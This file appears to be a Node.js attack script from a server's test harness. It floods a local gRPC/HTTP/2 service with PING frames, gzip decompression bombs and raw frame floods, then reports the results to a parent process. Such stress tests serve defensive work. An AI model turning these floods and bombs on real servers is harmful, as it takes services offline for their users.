/**
 * Attacks a server until its parent says that it is enough: `node attacker.mjs KIND ADDRESS [TOKEN]`. Says `begun` once it is
 * under way, and in the end what came of it.
 */
import { connect as connectHttp2, constants } from 'node:http2';
import { connect as connectTcp } from 'node:net';
import { setPriority } from 'node:os';
import { setTimeout as pause } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { attacks, preface } from './http2-attacks.mjs';

const [kind = '', address = '', token = ''] = process.argv.slice(2);
const port = Number(address.split(':').at(-1));
const connections = 4;
const seen = {};
let isOver = false;
// An attacker has a machine of their own: here they get what the server and the others leave.
setPriority(19);
const note = (what) => {
  seen[what] = (seen[what] ?? 0) + 1;
};

const ping = Buffer.from('0000080600000000000102030405060708', 'hex');
/** More than a thousand that wait for their answers, and Node itself hangs up. */
const inFlight = 900;
const mostMs = 20_000;

/** As many pings as the server answers, and no call, until it hangs up. */
function floodPings() {
  return new Promise((resolve) => {
    const socket = connectTcp(port, '127.0.0.1');
    const block = Buffer.concat(Array(inFlight).fill(ping));
    const untilMs = performance.now() + mostMs;
    let [sent, got] = [0, 0];
    socket.on('error', () => undefined);
    socket.on('data', ({ length }) => {
      got += length;
      if (performance.now() > untilMs) socket.destroy();
      else if (got >= sent * ping.length) {
        sent += inFlight;
        socket.write(block);
      }
    });
    socket.on('close', () => {
      note(performance.now() > untilMs ? 'served on' : 'cut');
      seen.pings = (seen.pings ?? 0) + Math.floor(got / ping.length);
      resolve();
    });
    socket.write(preface);
  });
}

/** A compressed message of so many zeros, as gRPC frames it. */
function bomb(bytes) {
  const packed = gzipSync(Buffer.alloc(bytes), { level: 9 });
  const head = Buffer.alloc(5);
  head[0] = 1;
  head.writeUInt32BE(packed.length, 1);
  return Buffer.concat([head, packed]);
}
const bodies = [bomb(100_000_000), Buffer.concat(Array(14).fill(bomb(1_048_000)))];
const paths = [
  '/moot.v1.CommunityService/Describe',
  '/moot.v1.CommunityService/Publish',
  '/moot.v1.CommunityService/PublishStream',
  '/moot.v1.CommunityService/Query',
  '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo',
];
const callsEach = 10;
const everyMs = 250;

/** Calls of all kinds whose bodies are small and become large, 160 a second; with the token, where there is one. */
async function sendBombs() {
  const session = connectHttp2(`http://127.0.0.1:${port}`);
  session.on('error', () => undefined);
  const call = (at) =>
    new Promise((resolve) => {
      const stream = session.request({
        ':method': 'POST',
        ':path': paths[at % paths.length],
        'content-type': 'application/grpc',
        'grpc-encoding': 'gzip',
        te: 'trailers',
        ...(token === '' ? {} : { authorization: `Bearer ${token}` }),
      });
      let status = 'none';
      const told = (headers) => {
        status = headers['grpc-status'] ?? status;
      };
      stream
        .on('response', told)
        .on('trailers', told)
        .on('error', () => undefined)
        .resume();
      stream.on('close', () => {
        note(`status ${status}`);
        resolve();
      });
      stream.end(bodies[Math.floor(at / paths.length) % bodies.length]);
      setTimeout(() => stream.close(constants.NGHTTP2_CANCEL), 10_000).unref();
    });
  await Promise.all([pause(everyMs), ...Array.from({ length: callsEach }, (_, at) => call(at))]);
  session.destroy();
}

/** Bytes of one kind, as fast as they are taken, until the server hangs up. */
function floodWith(bytesOf) {
  return new Promise((resolve) => {
    const socket = connectTcp(port, '127.0.0.1');
    const untilMs = performance.now() + mostMs;
    const bytes = bytesOf();
    const send = () => {
      while (!socket.destroyed && performance.now() < untilMs) if (!socket.write(bytes.next().value)) return;
      socket.destroy();
    };
    socket.on('error', () => undefined).resume();
    socket.on('drain', () => setImmediate(send));
    socket.on('close', () => {
      note(performance.now() > untilMs ? 'served on' : 'cut');
      resolve();
    });
    socket.write(preface);
    send();
  });
}

const attack = { pings: floodPings, gzip: sendBombs }[kind] ?? (() => floodWith(attacks[kind.replace('raw ', '')]));
process.on('message', () => {
  isOver = true;
});
process.send('begun');
await Promise.all(
  Array.from({ length: connections }, async () => {
    do await attack();
    while (!isOver);
  }),
);
process.send(seen);
process.disconnect();
